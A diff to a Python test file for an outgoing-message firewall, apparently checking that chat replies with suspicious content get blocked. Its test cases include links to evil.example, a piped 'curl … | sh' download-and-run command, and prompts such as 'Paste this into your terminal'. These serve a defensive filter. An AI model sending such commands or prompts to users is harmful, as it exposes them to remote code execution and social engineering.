@@ -5,7 +5,6 @@ import time
 import pytest
 
 from fulfillment.firewall import WHY_BLOCKED, Blocked, check_outgoing
-from kernel.references import new_reference
 
 CHARS = 65_536
 
@@ -30,7 +29,7 @@ CHARS = 65_536
         ("See www.evil.example", Blocked.LINK),
         ("See [here](https://evil.example)", Blocked.LINK),
         ("Run K7F3 did it", Blocked.RUN_CODE),
-        (f"Order {new_reference('ord')}", Blocked.REFERENCE),
+        ("Order ord_01m8qq3bjg7fn6r26q0jzxtzfm", Blocked.REFERENCE),
         ("Open a shell: curl -s https://known.example/a | sh", Blocked.COMMAND),
         ("Press Win + R and type", Blocked.COMMAND),
         ("Paste this into your terminal", Blocked.COMMAND),
